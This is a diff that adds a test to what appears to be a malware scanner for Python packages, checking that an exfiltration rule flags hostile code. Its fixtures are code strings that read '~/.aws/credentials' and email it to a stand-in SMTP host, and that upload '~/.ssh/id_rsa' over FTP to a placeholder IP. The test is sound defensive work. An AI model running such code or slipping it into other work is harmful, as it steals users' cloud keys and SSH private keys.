@@ -463,3 +463,30 @@ def test_curl_handed_the_environment_as_a_list_sends_it() -> None:
         "subprocess.run(['curl', '-o', 'out.tgz', 'https://example.com/x.tgz'])\n"
     )
     assert "PV-EXF-COMBO" not in ids(run(ALL, fetch))
+
+
+def test_a_credential_file_mailed_or_uploaded_over_ftp_is_sent() -> None:
+    mail = (
+        "import os, smtplib\n"
+        "from email.message import EmailMessage\n"
+        "m = EmailMessage()\n"
+        "m.set_content(open(os.path.expanduser('~/.aws/credentials')).read())\n"
+        "s = smtplib.SMTP_SSL('smtp.x.invalid', 465)\n"
+        "s.send_message(m, 'a@x.invalid', 'b@x.invalid')\n"
+    )
+    upload = (
+        "import ftplib, os\n"
+        "f = ftplib.FTP('203.0.113.9', 'u', 'p')\n"
+        "f.storbinary('STOR k', open(os.path.expanduser('~/.ssh/id_rsa'), 'rb'))\n"
+    )
+    for source in (mail, upload):
+        found = [f for f in run(ALL, py(source, path="acme/__init__.py")) if f.rule == "PV-EXF-COMBO"]
+        assert [f.severity for f in found] == [Severity.CRITICAL], source
+    report = (
+        "import smtplib\n"
+        "from email.message import EmailMessage\n"
+        "m = EmailMessage()\n"
+        "m.set_content(open('build.log').read())\n"
+        "smtplib.SMTP('localhost').send_message(m)\n"
+    )
+    assert "PV-EXF-COMBO" not in ids(run(ALL, py(report, path="acme/__init__.py")))
